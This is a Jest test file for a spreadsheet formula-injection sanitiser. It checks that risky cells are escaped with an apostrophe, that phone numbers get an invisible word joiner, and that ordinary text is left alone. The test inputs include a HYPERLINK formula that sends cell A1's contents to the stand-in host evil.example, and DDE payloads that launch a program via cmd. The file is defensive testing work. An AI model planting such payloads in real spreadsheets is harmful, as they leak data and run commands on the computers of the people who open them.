import { neutraliseFormula, TEXT_MARK } from './formulaCells'
import { normalizeKzPhone } from './phone'

describe('neutraliseFormula', () => {
  it('puts an apostrophe before what a spreadsheet would run', () => {
    for (const text of [
      '=HYPERLINK("https://evil.example/?q="&A1, "Скидка")',
      "=cmd|' /C calc'!A0",
      '+cmd|" /C calc"!A0',
      '+7 701 234 56 78 =1+1',
      '+SUM(1)',
      '-2+3',
      '@SUM(A1:A2)',
      '\t=1+1',
      '\r=1+1',
    ]) {
      expect(neutraliseFormula(text)).toBe(`'${text}`)
    }
  })

  it('starts a phone with the invisible word joiner, not a visible apostrophe', () => {
    for (const phone of [
      '+7 (702) 555 02 02',
      '+7 (7122) 20 30 40',
      '+77025550202',
      '+7-702-555-02-02',
    ]) {
      const cell = neutraliseFormula(phone)
      expect(cell).toBe(`\u2060${phone}`)
      expect(cell.startsWith("'")).toBe(false)
      // Copied back from the sheet, the shop still reads it.
      expect(normalizeKzPhone(cell)).toBe(normalizeKzPhone(phone))
    }
    expect(TEXT_MARK).toBe('\u2060')
  })

  it('leaves everything else as it is', () => {
    for (const text of [
      'NS-100',
      'Насос = хороший',
      '',
      ' =1',
      '12',
      "'=already",
      '7 702 555 02 02',
    ]) {
      expect(neutraliseFormula(text)).toBe(text)
    }
  })
})
